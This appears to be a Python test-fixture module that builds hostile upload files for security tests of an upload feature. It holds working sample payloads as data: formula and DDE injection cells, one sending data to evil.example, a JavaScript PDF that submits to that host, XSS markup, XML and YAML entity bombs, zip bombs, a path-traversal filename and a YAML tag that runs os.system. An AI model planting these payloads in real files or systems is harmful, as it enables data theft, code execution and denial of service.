"""Hostile files, made in memory, for the upload tests: wrong types under a trusted name, zip bombs,
oversized files, XML that expands or nests without end, formula cells, a macro workbook, a PDF that
carries JavaScript, a PNG with a web page appended, an empty file and names that climb folders or
carry control characters. Each builder returns the bytes; `FORMULAS` are the cell payloads."""

import io
import zipfile

# Cell values a spreadsheet program would evaluate if they reached it as formulas (OWASP CSV
# injection): the four leads, tab and CR before one, and DDE.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "＝1+1",
)
# What a formula lead must never be at the start of an exported cell unless neutralised.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")

TRAVERSAL_NAME = "../../etc/passwd\x07\x1b[2J\u202egnp.pdf"

EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"PE\x00\x00"
    + b"\x00" * 200
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>\n"
)
PDF_WITH_JAVASCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    b"3 0 obj << /S /JavaScript\n"
    b"/JS (app.alert\\('x'\\); this.submitForm\\('http://evil.example'\\)) >> endobj\n"
    b"trailer << /Root 1 0 R >>\n%%EOF\n"
)
EMPTY = b""

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n"
)

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def png(width: int = 4, height: int = 4) -> bytes:
    from PIL import Image

    output = io.BytesIO()
    Image.new("RGBA", (width, height), (200, 0, 0, 255)).save(output, "PNG")
    return output.getvalue()


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that declares `width` × `height` pixels (a decompression bomb once decoded) but
    carries one row: built by hand, so making it costs nothing."""
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * (width * 4 + 1)))
        + chunk(b"IEND", b"")
    )


def png_polyglot() -> bytes:
    """A real PNG with a web page and a zip (an archive with a script) appended after IEND."""
    tail = io.BytesIO()
    with zipfile.ZipFile(tail, "w") as archive:
        archive.writestr("run.js", "alert(1)")
    return png() + HTML + tail.getvalue()


def workbook(rows: list[list[object]]) -> bytes:
    """A genuine .xlsx (openpyxl) of the rows; strings starting with '=' become formula cells."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append(row)
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


def _rezip(data: bytes, replace: dict[str, bytes], add: dict[str, bytes] | None = None) -> bytes:
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return output.getvalue()


def docx(text: str = "学习笔记") -> bytes:
    """A minimal .docx carrying the text."""
    body = (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        f'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>'
    )
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", body)
    return output.getvalue()


def zip_bomb_xlsx(unpacked_mb: int = 12) -> bytes:
    """A small .xlsx (tens of KB) whose one extra part inflates to `unpacked_mb` MB of zeros."""
    return _rezip(workbook([["姓名"], ["张三"]]), {}, {"xl/media/padding.bin": b"\x00" * (unpacked_mb << 20)})


def zip_bomb_docx(unpacked_mb: int = 12) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<w:document/>")
        archive.writestr("word/media/padding.bin", b"\x00" * (unpacked_mb << 20))
    return output.getvalue()


def billion_laughs_xlsx() -> bytes:
    """An .xlsx whose worksheet declares nested entities (a billion laughs) and uses the last."""
    sheet = (
        BILLION_LAUGHS + '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>'
        "</worksheet>"
    ).encode()
    return _rezip(workbook([["x"]]), {"xl/worksheets/sheet1.xml": sheet})


def deep_xml_xlsx(depth: int = 100_000) -> bytes:
    """An .xlsx whose worksheet nests elements `depth` deep."""
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "<sheetData>"
        + "<x>" * depth
        + "</x>" * depth
        + "</sheetData></worksheet>"
    ).encode()
    return _rezip(workbook([["x"]]), {"xl/worksheets/sheet1.xml": sheet})


def deep_xml_docx(depth: int = 100_000) -> bytes:
    body = (
        BILLION_LAUGHS + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body>" + "<w:p>" * depth + "<w:t>&lol9;</w:t>" + "</w:p>" * depth + "</w:body></w:document>"
    ).encode()
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", body)
    return output.getvalue()


def macro_workbook() -> bytes:
    """An .xlsm (a workbook carrying a VBA project), to be uploaded renamed .xlsx."""
    return _rezip(
        workbook([["姓名"], ["张三"]]), {}, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA Auto_Open Shell"}
    )


def macro_docx() -> bytes:
    return _rezip(docx(), {}, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA AutoOpen Shell"})


def oversized(limit: int) -> bytes:
    """One byte more than `limit`, starting like a real .xlsx so only the size can refuse it."""
    head = workbook([["x"]])
    return head + b"\x00" * (limit + 1 - len(head))


def formula_csv(header: list[str], rows: list[list[str]]) -> bytes:
    lines = [",".join(header)] + [
        ",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows
    ]
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8")


YAML_BILLION_LAUGHS = (
    "a: &a [lol,lol,lol,lol,lol,lol,lol,lol,lol]\n"
    + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(8))
).encode()
YAML_DEEP = (b"[" * 5_000) + (b"]" * 5_000)
YAML_PYTHON_TAG = b"!!python/object/apply:os.system ['touch /tmp/pwned']\n"
